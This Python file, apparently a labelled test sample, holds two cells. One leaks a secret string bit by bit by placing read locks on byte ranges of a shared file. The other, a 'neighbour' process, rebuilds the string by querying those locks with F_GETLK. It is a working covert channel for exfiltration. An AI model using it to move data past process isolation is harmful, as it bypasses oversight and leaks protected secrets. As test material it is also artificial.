# Copyright 2026 The spatialclaw_ros authors
#
# Licensed under the Apache License, Version 2.0 (the "License");
# you may not use this file except in compliance with the License.
# You may obtain a copy of the License at
#
#     http://www.apache.org/licenses/LICENSE-2.0
#
# Unless required by applicable law or agreed to in writing, software
# distributed under the License is distributed on an "AS IS" BASIS,
# WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
# See the License for the specific language governing permissions and
# limitations under the License.

"""Send bits to a query that runs at once by locks on bytes of a file that both may read.

Whom a lock belongs to can be asked without having it (F_GETLK).
"""

# act: leak

import fcntl
import os
import struct

F_OFD_SETLK = 37
common = os.open(os.__file__, os.O_RDONLY)
bits = ''.join(f'{byte:08b}' for byte in PRIVATE.encode())
for place, bit in enumerate(bits):
    if bit == '1':
        lock = struct.pack('hhqqi4x', fcntl.F_RDLCK, 0, place, 1, 0)
        fcntl.fcntl(common, fcntl.F_SETLK, lock)
# %% neighbour
import fcntl
import os
import struct

common = os.open(os.__file__, os.O_RDONLY)
seen = ''
for place in range(8 * 32):
    lock = fcntl.fcntl(common, fcntl.F_GETLK, struct.pack(
        'hhqqi4x', fcntl.F_WRLCK, 0, place, 1, 0))
    seen += '0' if struct.unpack('hhqqi4x', lock)[0] == fcntl.F_UNLCK else '1'
print(bytes(int(seen[place:place + 8], 2) for place in range(0, len(seen), 8)))
